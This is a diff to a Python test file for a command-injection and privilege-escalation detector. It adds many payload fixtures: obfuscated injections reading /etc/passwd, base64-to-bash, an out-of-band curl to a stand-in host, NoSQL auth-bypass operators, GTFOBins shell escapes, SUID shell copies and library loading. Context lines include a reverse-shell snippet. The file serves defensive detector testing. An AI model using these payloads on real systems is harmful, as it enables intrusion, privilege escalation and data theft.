@@ -138,6 +138,50 @@ DANGEROUS = [
     (";id", "danger.command_injection"),
     ("| uname -a", "danger.command_injection"),
     ("&& sleep 5", "danger.command_injection"),
+    # obfuscated injection probes: a space, a word or a path disguised to slip past a filter
+    ("cat${IFS}/etc/passwd", "danger.command_injection"),
+    (";ls$IFS$9-la", "danger.command_injection"),
+    ("{cat,/etc/passwd}", "danger.command_injection"),
+    ("w'h'o'am'i", "danger.command_injection"),
+    ("c\\at /et\\c/pas\\swd", "danger.command_injection"),
+    ("/???/??t /???/p??s??", "danger.command_injection"),
+    ("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash", "danger.command_injection"),
+    ("$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63')", "danger.command_injection"),
+    ("X=$'uname\\x20-a'&&$X", "danger.command_injection"),
+    ("curl http://$(whoami).oob.example/", "danger.command_injection"),
+    # chained probes: a value, a separator, then a recon command
+    ("127.0.0.1; id", "danger.command_injection"),
+    ("example.com && cat /etc/passwd", "danger.command_injection"),
+    ("localhost%0Aid", "danger.command_injection"),
+    ("| powershell -c whoami", "danger.command_injection"),
+    (";;id", "danger.command_injection"),
+    ("%26%26 whoami", "danger.command_injection"),
+    ("; echo $((7*7))", "danger.command_injection"),
+    ("1;phpinfo()", "danger.command_injection"),
+    (";system('cat%20/etc/passwd')", "danger.command_injection"),
+    ("<!--#exec%20cmd=\"/bin/cat%20/etc/passwd\"-->", "danger.command_injection"),
+    ("<%= `id` %>", "danger.command_injection"),
+    # NoSQL operator and JavaScript injection
+    ("{\"username\": {\"$nin\": [\"\"]}, \"password\": {\"$nin\": [\"\"]}}", "danger.nosql_injection"),
+    ("{\"username\": \"admin\", \"password\": {\"$regex\": \"^a\"}}", "danger.nosql_injection"),
+    ("{\"$where\": \"sleep(5000)\"}", "danger.nosql_injection"),
+    ("' || '1'=='1", "danger.nosql_injection"),
+    ("'; while(true){}'", "danger.nosql_injection"),
+    ("{\"$or\": [{}, {\"a\": \"a\"}]}", "danger.nosql_injection"),
+    ("'%20%26%26%20this.password.match(/.*/)//+%00", "danger.nosql_injection"),
+    # more GTFOBins-style gadgets, SUID shell copies and library loading
+    ("find . -exec id \\; -quit", "danger.shell_escape"),
+    ("dc -e '!id'", "danger.shell_escape"),
+    ("julia -e 'run(`/bin/sh`)'", "danger.shell_escape"),
+    ("sudo pip install $TF", "danger.shell_escape"),
+    ("joe\n^K!/bin/sh", "danger.shell_escape"),
+    ("sudo install -m =xs $(which zsh) .\n./zsh", "danger.privilege_escalation"),
+    ("./csh -b", "danger.privilege_escalation"),
+    ("redis-cli MODULE LOAD /tmp/lib.so", "danger.library_load"),
+    ("openvpn --dev null --plugin ./lib.so", "danger.library_load"),
+    ("php -d extension=./lib.so -r 1", "danger.library_load"),
+    ("lua -e 'package.loadlib(\"./lib.so\", \"luaopen_x\")()'", "danger.library_load"),
+    ("java -agentpath:/tmp/lib.so -version", "danger.library_load"),
     # multi-line payloads
     ("<script>\n  alert(document.cookie)\n</script>", "danger.xss"),
     (("import socket, os\ns = socket.socket()\ns.connect((\"198.51.100.7\", 9001))\nos.dup2(s.fileno(), 0)\n"
@@ -209,6 +253,25 @@ BENIGN = [
     "sqlite3 data.db '.tables'\nbash -c 'enable -n echo'",
     "script -c 'make test' build.log\nman -H firefox ls",
     "subprocess.run([\"id\", \"-u\"], check=True)",
+    # look-alikes of the obfuscation, chained-probe, NoSQL and library-load families
+    "IFS=, read -r first second <<< \"$line\"\nprintf '%s' \"$IFS\"",
+    "cp config.yaml{,.bak}\nmkdir -p src/{api,web}\necho {cat,dog}s",
+    "Don't run 'whoami' as root; it's the user's passwd file. (u\"name\", self._name)",
+    "Search the docs: https://example.com/search?q=passwd and ls /etc/*.conf",
+    "echo dGVzdA== | base64 -d > out.txt\nprintf '\\x1b[1m%s\\n' bold",
+    "LOG=\"$HOME/$(hostname).log\"",
+    "virt-manager --show-domain-editor name|id|uuid",
+    "cd build && make && make install\nssh host whoami\nsudo -u app id",
+    "case $x in a) echo a;; esac\nnslookup example.com\ntimeout 5 curl https://example.com",
+    "db.users.find({ age: { $gt: 18 } })\ndb.orders.find({ status: { $in: [\"A\", \"D\"] } })",
+    "{\"username\": \"alice\", \"password\": \"s3cret\"}",
+    "while (true) { poll(); }\nif (a || b) return;",
+    "find . -name '*.tmp' -exec rm {} \\;\nfind . -name x -print -quit",
+    "grep -e '!important' style.css\nrun(`make test`)",
+    "pip install requests\nsudo dpkg -i ./google-chrome-stable_current_amd64.deb",
+    "./build.sh && ./shellcheck x.sh",
+    "ss-local --plugin plugin_name\nphp -d extension=intl.so -m\nwp plugin install akismet",
+    "The `process.dlopen()` method loads a native addon; prefer `require()`.",
 ]
 
 
@@ -358,3 +421,24 @@ def test_plain_sudo_is_not_acted_on(privilege):
 def test_privilege_prose_is_discounted(privilege):
     text = "Attackers often run setenforce 0 right after they get in; watch the audit log for it."
     assert categories(privilege.scan(text)) == set()
+
+
+def test_keyword_prefilter_finds_what_a_full_scan_finds(danger, privilege):
+    """The per-text keyword prefilter only skips work: running every line rule on every line (and every
+    multi-line rule on the whole text) finds the same matches for texts that hold the keywords."""
+    from aegis_addons.detect.danger import _line_findings
+
+    texts = [t for t, _ in DANGEROUS] + BENIGN + STREAM_TEXTS + ["\n".join(t for t, _ in DANGEROUS)]
+    for detector in (danger, privilege):
+        engine = detector.engine
+        for text in texts:
+            lines, start = [], 0
+            for line in text.split("\n"):
+                lines.append((start, start + len(line)))
+                start += len(line) + 1
+            full = [f for rule in engine.line_rules for s, e in lines
+                    if not rule.keywords or any(k in text[s:e].lower() for k in rule.keywords)
+                    for f in _line_findings(rule, text, s, e)]
+            full += [f for rule, _, _ in engine.multi_rules for f in rule.scan(text)]
+            key = lambda f: (f.start, f.end, f.rule)  # noqa: E731
+            assert sorted(engine.scan(text), key=key) == sorted(full, key=key)
